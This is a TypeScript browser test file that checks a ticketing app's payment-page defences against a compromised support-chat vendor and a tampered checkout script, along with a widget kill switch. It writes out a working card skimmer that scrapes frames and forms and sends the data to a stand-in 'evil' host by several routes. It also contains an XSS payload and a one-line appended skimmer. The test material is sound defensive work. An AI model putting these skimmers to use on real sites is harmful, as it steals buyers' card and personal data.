/**
 * Payment-page integrity in a real browser (issue 12): every request any frame makes is recorded,
 * and what leaves the page is asserted, not what the code intends.
 *
 * - A compromised support-chat vendor: its script is replaced by a skimmer that tries to read
 *   the page, the checkout form and the card frame and to send them to another origin; its server
 *   drops its own CSP and accepts any embedder's. The fan still buys; nothing reaches the thief;
 *   the skimmer's attempt to get into the payment page is refused and reported, and the report
 *   opens a script_compromise incident with an alert.
 * - A widget configured for the payment page is not there (nor on account pages).
 * - The kill switch, flipped on one node, removes the widget from pages served by another node
 *   within 5 s.
 */
import assert from 'node:assert/strict';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { brotliCompressSync, gzipSync } from 'node:zlib';
import { after, before, describe, test } from 'node:test';
import type { Browser, BrowserContext, Request } from 'playwright-core';
import { buildApp, type App } from '../../src/app.js';
import { createContext, closeContext, type AppContext } from '../../src/platform/context.js';
import { registerBuild } from '../../src/security/builds.repository.js';
import { startTamperCheckJob } from '../../src/security/tamper-check.job.js';
import { buildDemoChatServer, type DemoChatServer } from '../../src/widgets/demo-chat/demo-chat.server.js';
import { admin } from '../helpers/app.js';
import { createShow } from '../helpers/fixtures.js';
import { freePort } from '../helpers/net.js';
import { CARD, fillBuyer, payWithCard, pickSeats, ticketsOnOrderPage } from './flows.js';
import { browserSkipReason, launchBrowser, startServer, withPage, type LiveServer } from './harness.js';

const skip = browserSkipReason();

const BUYER = { name: 'Marisol Skimtest', email: 'marisol.skimtest@example.com' };
const CVC = '123';

/** The thief's collector: another origin that keeps whatever reaches it. */
function startCollector(port: number): Promise<{ server: Server; received: { url: string; body: string }[] }> {
  const received: { url: string; body: string }[] = [];
  const server = createServer((request: IncomingMessage, response) => {
    let body = '';
    request.on('data', (chunk) => {
      body += chunk;
    });
    request.on('end', () => {
      received.push({ url: request.url ?? '', body });
      response.writeHead(204, { 'access-control-allow-origin': '*' }).end();
    });
  });
  return new Promise((resolve) => server.listen(port, '127.0.0.1', () => resolve({ server, received })));
}

/** The altered vendor script: reads what it can reach, every 200 ms, and tries every way out. */
const skimmer = (evil: string) => `'use strict';
(function () {
  var EVIL = ${JSON.stringify(evil)};
  function send(what) {
    var data = encodeURIComponent(what);
    try { fetch(EVIL + '/fetch?d=' + data, { method: 'POST', body: what, mode: 'no-cors' }).catch(function () {}); } catch (e) {}
    try { new Image().src = EVIL + '/pixel?d=' + data; } catch (e) {}
    try { navigator.sendBeacon(EVIL + '/beacon', what); } catch (e) {}
    try { new WebSocket(EVIL.replace('http', 'ws') + '/ws?d=' + data); } catch (e) {}
    try { window.open(EVIL + '/popup?d=' + data); } catch (e) {}
    try { var s = document.createElement('script'); s.src = EVIL + '/jsonp?d=' + data; document.head.appendChild(s); } catch (e) {}
  }
  function grab() {
    var loot = [];
    try { loot.push(parent.document.body.innerText); } catch (e) { loot.push('no-parent'); }
    try { var forms = top.document.forms; for (var i = 0; i < forms.length; i++) loot.push(new FormData(forms[i]).toString()); } catch (e) {}
    try { for (var j = 0; j < top.frames.length; j++) { try { loot.push(top.frames[j].document.body.innerText); } catch (e) {} } } catch (e) {}
    try { loot.push(document.referrer); } catch (e) {}
    send(loot.join('|'));
    try { parent.postMessage({ type: 'taquilla-widget', action: 'open', html: '<img src=x onerror=alert(1)>' }, '*'); } catch (e) {}
    try { top.location.href = EVIL + '/phish'; } catch (e) {}
  }
  grab();
  setInterval(grab, 200);
})();
`;

interface Recorded {
  url: string;
  method: string;
  body: string;
  frame: string;
  /** How the browser ended it: `sent` once a response came, else the failure (`net::ERR_BLOCKED_BY_CSP`...). */
  outcome: string;
}

/** Every request of every frame, with how it ended: a request the browser blocked never left it. */
function record(context: BrowserContext, requests: Recorded[]): void {
  const byRequest = new Map<Request, Recorded>();
  context.on('request', (request) => {
    let frame = '';
    try {
      frame = request.frame().url();
    } catch {
      // Service-worker and some preflight requests belong to no frame.
    }
    const entry = { url: request.url(), method: request.method(), body: request.postData() ?? '', frame, outcome: 'pending' };
    byRequest.set(request, entry);
    requests.push(entry);
  });
  context.on('requestfinished', (request) => {
    const entry = byRequest.get(request);
    if (entry) entry.outcome = 'sent';
  });
  context.on('requestfailed', (request) => {
    const entry = byRequest.get(request);
    if (entry) entry.outcome = request.failure()?.errorText ?? 'failed';
  });
}

describe('browser payment-page integrity', { skip }, () => {
  let server: LiveServer;
  let browser: Browser;
  let chat: DemoChatServer;
  let chatOrigin: string;
  let evil: string;
  let collector: Awaited<ReturnType<typeof startCollector>>;
  let widgetPolls: { stop(): Promise<void> };
  let vendorCompromised = false;

  before(async () => {
    const [chatPort, evilPort] = [await freePort(), await freePort()];
    chatOrigin = `http://127.0.0.1:${chatPort}`;
    evil = `http://127.0.0.1:${evilPort}`;
    // The committed inventory, with the chat approved at this run's port (buyer and queue pages only).
    const inventory = JSON.parse(readFileSync('security/script-inventory.json', 'utf8')) as { scripts: { id: string; origin?: string }[] };
    for (const entry of inventory.scripts) if (entry.id === 'chat') entry.origin = chatOrigin;
    const inventoryPath = join(mkdtempSync(join(tmpdir(), 'taquilla-inventory-')), 'script-inventory.json');
    writeFileSync(inventoryPath, JSON.stringify(inventory));
    [server, browser, collector] = await Promise.all([
      startServer({
        SCRIPT_INVENTORY: inventoryPath,
        // The operator asks for the chat on every page, the payment and account pages included.
        WIDGETS: JSON.stringify([{ name: 'chat', url: `${chatOrigin}/chat`, classes: ['buyer', 'payment', 'account', 'queue'], title: 'Support chat' }]),
        ALERT_EMAILS: 'security@example.com',
      }),
      launchBrowser(),
      startCollector(evilPort),
    ]);
    chat = buildDemoChatServer({ appOrigins: [server.baseUrl] });
    // Once taken over, the vendor's server sends no policy of its own and accepts whatever the
    // embedder requires (a vendor that refused would not load at all). Runs after its own hook.
    chat.addHook('onSend', async (_request, reply, payload) => {
      if (vendorCompromised) {
        reply.removeHeader('content-security-policy');
        reply.header('allow-csp-from', '*');
      }
      return payload;
    });
    await chat.listen({ port: chatPort, host: '127.0.0.1' });
    widgetPolls = server.t.ctx.widgets.start();
    await server.t.ctx.widgets.refresh();
  });
  after(async () => {
    await widgetPolls?.stop();
    await browser?.close();
    await chat?.close();
    collector?.server.close();
    await server?.close();
  });

  test('browser: a widget configured for payment and account pages is not on them; it is on the shop pages', { timeout: 30_000 }, async () => {
    assert.ok(
      server.t.ctx.config.widgetWarnings.some((w) => w.includes('payment')),
      'the configuration is refused for payment pages, with a warning',
    );
    const show = await createShow(server.t.app, { rows: 1, perRow: 4 });
    await withPage(browser, async ({ page, problems }) => {
      await page.goto(`${server.baseUrl}/performances/${show.performanceId}`);
      await page.locator('iframe[data-widget=chat]').waitFor();
      await page.frameLocator('iframe[data-widget=chat]').getByRole('button').first().waitFor();

      for (const path of [`/checkout/${show.performanceId}`, '/account/sign-in', '/account']) {
        const response = await page.goto(`${server.baseUrl}${path}`);
        await page.locator('#app *').first().waitFor();
        assert.equal(await page.locator('iframe[data-widget]').count(), 0, `no widget frame on ${path}`);
        const html = await response!.text();
        assert.ok(!html.includes(chatOrigin), `the widget's origin is nowhere in ${path}`);
        const csp = response!.headers()['content-security-policy'] ?? '';
        assert.ok(!csp.includes(chatOrigin), `the CSP of ${path} does not let the widget in: ${csp}`);
      }
      assert.deepEqual(problems, []);
    });
  });

  test('browser: a compromised chat vendor skims nothing, the fan still buys, and the attempt is reported and alerted', { timeout: 60_000 }, async () => {
    // The vendor is taken over: its script is a skimmer and its server sends no policy of its own,
    // accepting whatever the embedder requires (a vendor that refused would not load at all).
    chat.setScript(skimmer(evil));
    vendorCompromised = true;

    const show = await createShow(server.t.app, { rows: 2, perRow: 6 });
    const requests: Recorded[] = [];
    try {
      await withPage(browser, async ({ page, context, problems }) => {
        record(context, requests);
        await page.goto(`${server.baseUrl}/performances/${show.performanceId}`);
        const widget = page.locator('iframe[data-widget=chat]');
        await widget.waitFor();
        // The skimmer runs in its frame (it fetched its script and keeps trying) while the fan shops.
        await page.waitForTimeout(800);
        assert.ok(
          requests.some((r) => r.url === `${chatOrigin}/chat.js`),
          'the altered script was served to the frame',
        );
        await pickSeats(page, 2);
        await page.getByTestId('hold-seats').click();
        await page.waitForURL(/\/checkout\//);
        assert.equal(await page.locator('iframe[data-widget]').count(), 0, 'no widget on the payment page');

        // The skimmer's loader tries to get into the payment page itself, the way the altered
        // vendor script ran inside the 2018 payment pages: a script from the vendor, and one
        // built from a string. Trusted Types refuse both; the browser reports it.
        const refused = await page.evaluate((vendorScript) => {
          // This runs in the page; the test's own TypeScript has no DOM types.
          const document = (
            globalThis as unknown as {
              document: {
                createElement(t: string): { src: string };
                head: { appendChild(n: unknown): void };
                body: { insertAdjacentHTML(where: string, html: string): void };
              };
            }
          ).document;
          const outcomes: string[] = [];
          try {
            const s = document.createElement('script');
            s.src = vendorScript;
            document.head.appendChild(s);
            outcomes.push('src accepted');
          } catch {
            outcomes.push('src refused');
          }
          try {
            document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="fetch(1)">');
            outcomes.push('html accepted');
          } catch {
            outcomes.push('html refused');
          }
          return outcomes;
        }, `${chatOrigin}/chat.js`);
        assert.deepEqual(refused, ['src refused', 'html refused']);

        await fillBuyer(page, BUYER.name, BUYER.email);
        await payWithCard(page, CARD.ok);
        const codes = await ticketsOnOrderPage(page, 2);
        assert.equal(codes.length, 2, 'the page kept working: the fan has two tickets');

        // Back on a shop page the (still compromised) widget is present again and still blind.
        await page.waitForTimeout(600);
        assert.ok(
          problems.some((p) => p.includes('require-trusted-types-for')),
          `the refusal was seen in the page: ${problems.join('\n')}`,
        );
      });

      // The checkout record names the build, the page class it was paid on, and no widget.
      const checkoutRecord = await server.t.ctx.db
        .selectFrom('checkout_records')
        .select(['build_id', 'client_build_id', 'page_class', 'widgets'])
        .where('buyer_email', '=', BUYER.email)
        .executeTakeFirstOrThrow();
      assert.deepEqual(checkoutRecord, { build_id: server.t.ctx.buildId, client_build_id: server.t.ctx.buildId, page_class: 'payment', widgets: [] });

      // Nothing reached the thief, by any route, from any frame.
      const card = CARD.ok.replace(/\s/g, '');
      const secrets = [card, CARD.ok, BUYER.name, BUYER.email, encodeURIComponent(BUYER.email), `cvc=${CVC}`];
      assert.deepEqual(collector.received, [], 'the collector received nothing');
      const toThief = requests.filter((r) => r.url.startsWith(evil) || r.url.startsWith(evil.replace('http', 'ws')));
      for (const r of toThief) {
        for (const secret of secrets) assert.ok(!`${r.url} ${r.body}`.includes(secret), `${secret} left for ${r.url}`);
      }
      // The card went to the payment provider's origin only; the buyer's details to the app only.
      const carried = (...forms: string[]) =>
        requests.filter((r) => forms.some((secret) => `${decodeURIComponent(r.url)} ${r.body}`.includes(secret))).map((r) => new URL(r.url).origin);
      assert.deepEqual([...new Set(carried(card, CARD.ok))], [server.paymentOrigin], 'the card number (as typed or not) went only to the payment origin');
      assert.deepEqual([...new Set(carried(BUYER.email))], [new URL(server.baseUrl).origin], "the buyer's email went only to the app");
      // The skimmer tried (the browser saw each attempt) and every attempt was blocked in the browser.
      const attempts = requests.filter((r) => r.frame.startsWith(chatOrigin) && !r.url.startsWith(chatOrigin));
      assert.ok(attempts.length > 0, 'the skimmer did try to send');
      assert.deepEqual(
        attempts.filter((r) => r.outcome === 'sent'),
        [],
        "the widget's frame reached no origin but its own",
      );
      console.log(
        `# metric compromised widget: ${attempts.length} attempts to leave its origin, outcomes ${[...new Set(attempts.map((r) => r.outcome))].join(', ')}`,
      );

      // The violation report arrived, was classed as a payment page's, and opened an incident with an alert.
      let reports: { pageClass: string; directive: string }[] = [];
      for (let i = 0; i < 40; i++) {
        const res = await server.t.app.inject({ url: '/api/admin/security/csp-reports', headers: admin });
        reports = res.json().reports;
        if (reports.some((r) => r.pageClass === 'payment')) break;
        await new Promise((r) => setTimeout(r, 250));
      }
      assert.ok(
        reports.some((r) => r.pageClass === 'payment' && r.directive === 'require-trusted-types-for'),
        `a payment-page report: ${JSON.stringify(reports)}`,
      );
      const incident = await waitFor(() =>
        server.t.ctx.db.selectFrom('incidents').selectAll().where('kind', '=', 'script_compromise').where('status', '=', 'open').executeTakeFirst(),
      );
      assert.match(incident.summary, /payment page/);
      const alert = await waitFor(() =>
        server.t.ctx.db
          .selectFrom('outbox')
          .select(['recipient', 'subject'])
          .where('kind', '=', 'incident_alert')
          .where('subject', 'like', '%script compromise%')
          .executeTakeFirst(),
      );
      assert.equal(alert.recipient, 'security@example.com');
    } finally {
      vendorCompromised = false;
      chat.setScript(null);
    }
  });

  test('browser: the kill switch, thrown on one node, takes the widget off pages served by another within 5 s', { timeout: 40_000 }, async () => {
    // A second node on the same database, with its own process state and its own switch poller.
    const port = await freePort();
    const ctx2: AppContext = createContext(server.t.ctx.config, server.t.database.db, server.t.database.kind, { log: () => {} });
    const app2: App = await buildApp(ctx2, { logger: false });
    await app2.listen({ port, host: '127.0.0.1' });
    const polls2 = ctx2.widgets.start();
    await ctx2.widgets.refresh();
    const node2 = `http://127.0.0.1:${port}`;
    try {
      await withPage(browser, async ({ page }) => {
        const pageOnNode2 = await page.context().newPage();
        await page.goto(`${server.baseUrl}/`);
        await pageOnNode2.goto(`${node2}/`);
        await page.locator('iframe[data-widget=chat]').waitFor();
        await pageOnNode2.locator('iframe[data-widget=chat]').waitFor();

        const off = await server.t.app.inject({
          method: 'POST',
          url: '/api/admin/widgets/chat/disable',
          headers: { ...admin, 'content-type': 'application/json' },
          payload: { reason: 'vendor reports a breach' },
        });
        assert.equal(off.statusCode, 200, off.body);
        const thrown = Date.now();
        // Both open pages reload until the widget is gone.
        let gone = false;
        while (!gone && Date.now() - thrown < 8000) {
          await Promise.all([page.reload(), pageOnNode2.reload()]);
          gone = (await page.locator('iframe[data-widget]').count()) === 0 && (await pageOnNode2.locator('iframe[data-widget]').count()) === 0;
          if (!gone) await page.waitForTimeout(250);
        }
        const tookMs = Date.now() - thrown;
        console.log(`# metric kill switch: widget gone from pages on both nodes ${tookMs} ms after the switch`);
        assert.ok(gone && tookMs <= 5000, `gone within 5 s (took ${tookMs} ms)`);
        const audited = await server.t.ctx.db
          .selectFrom('audit_log')
          .select(['action', 'data'])
          .where('action', '=', 'widgets.widget.disabled')
          .executeTakeFirst();
        assert.ok(audited, 'the switch is on the audit log');
      });
    } finally {
      await server.t.app.inject({
        method: 'POST',
        url: '/api/admin/widgets/chat/enable',
        headers: { ...admin, 'content-type': 'application/json' },
        payload: {},
      });
      await polls2.stop();
      await app2.close();
      await closeContext(ctx2);
    }
  });
});

async function waitFor<T>(read: () => Promise<T | undefined>, timeoutMs = 10_000): Promise<T> {
  const until = Date.now() + timeoutMs;
  for (;;) {
    const value = await read();
    if (value !== undefined) return value;
    if (Date.now() > until) throw new Error('timed out waiting');
    await new Promise((r) => setTimeout(r, 200));
  }
}

describe('browser payment-page integrity: a first-party file changed on disk', { skip }, () => {
  let server: LiveServer;
  let browser: Browser;
  let copy: string;
  let collector: Awaited<ReturnType<typeof startCollector>>;
  let evil: string;

  before(async () => {
    // The served build is a copy: this test plays an intruder with write access to it.
    copy = join(mkdtempSync(join(tmpdir(), 'taquilla-dist-')), 'dist');
    cpSync(join('web', 'dist'), copy, { recursive: true });
    const evilPort = await freePort();
    evil = `http://127.0.0.1:${evilPort}`;
    [server, browser, collector] = await Promise.all([
      startServer({ ALERT_EMAILS: 'security@example.com', TAMPER_CHECK_MINUTES: '5' }, { context: { webDistDir: copy } }),
      launchBrowser(),
      startCollector(evilPort),
    ]);
    // As src/server.ts does at start: the build's manifest becomes the reference.
    await registerBuild(server.t.ctx.db, server.t.ctx.buildManifest!);
  });
  after(async () => {
    await browser?.close();
    collector?.server.close();
    await server?.close();
    rmSync(dirname(copy), { recursive: true, force: true });
  });

  test('browser: an altered checkout script is refused by the browser (SRI) and the tamper check flags it within one cycle, with an incident and an alert', {
    timeout: 60_000,
  }, async () => {
    const manifest = server.t.ctx.buildManifest!;
    const target = manifest.pages['index.html']!.scripts.find((s) => s.chunk === 'src/buyer/pages/checkout.tsx')!;
    const file = join(copy, target.path);
    // The intruder appends a skimmer to the checkout code, in every encoding the server sends.
    const altered = `${readFileSync(file, 'utf8')}\n;globalThis.__skimmed=1;fetch(${JSON.stringify(`${evil}/skim`)},{method:'POST',mode:'no-cors',body:document.body.innerText});`;
    writeFileSync(file, altered);
    writeFileSync(`${file}.br`, brotliCompressSync(altered));
    writeFileSync(`${file}.gz`, gzipSync(altered));

    const show = await createShow(server.t.app, { rows: 1, perRow: 4 });
    const refusals: string[] = [];
    await withPage(browser, async ({ page }) => {
      page.on('console', (message) => {
        if (message.text().includes('integrity')) refusals.push(message.text());
      });
      const served = page.waitForResponse((response) => response.url().endsWith(target.path));
      await page.goto(`${server.baseUrl}/performances/${show.performanceId}`);
      await pickSeats(page, 1);
      await page.getByTestId('hold-seats').click();
      await page.waitForURL(/\/checkout\//);
      assert.equal((await served).status(), 200, 'the altered file was served');
      for (let i = 0; i < 40 && refusals.length === 0; i++) await page.waitForTimeout(100);
      assert.ok(
        refusals.some((r) => r.includes(target.path)),
        `the browser refused it: ${refusals.join('\n')}`,
      );
      assert.equal(await page.evaluate(() => (globalThis as { __skimmed?: number }).__skimmed), undefined, 'the altered code never ran');
    });
    assert.deepEqual(collector.received, [], 'nothing reached the intruder');

    // One cycle of the job, as it runs after start.
    const job = startTamperCheckJob(server.t.ctx, { info: () => {}, warn: () => {}, error: () => {} }, { firstRunMs: 50 });
    try {
      // The run is stored first and names its incident a moment later: wait for both.
      const run = await waitFor(() =>
        server.t.ctx.db.selectFrom('tamper_checks').selectAll().where('incident_id', 'is not', null).orderBy('finished_at', 'desc').executeTakeFirst(),
      );
      assert.equal(run.ok, false);
      const findings = run.findings as { page: string; kind: string }[];
      assert.ok(
        findings.some((f) => JSON.stringify(f).includes(target.path)),
        `a finding names ${target.path}: ${JSON.stringify(findings)}`,
      );
      assert.ok(run.incident_id, 'the run opened an incident');
      const incident = await server.t.ctx.db.selectFrom('incidents').selectAll().where('id', '=', run.incident_id!).executeTakeFirstOrThrow();
      assert.equal(incident.kind, 'script_compromise');
      const alert = await waitFor(() =>
        server.t.ctx.db
          .selectFrom('outbox')
          .select('recipient')
          .where('kind', '=', 'incident_alert')
          .where('subject', 'like', '%script compromise%')
          .executeTakeFirst(),
      );
      assert.equal(alert.recipient, 'security@example.com');
    } finally {
      await job.stop();
    }
  });
});
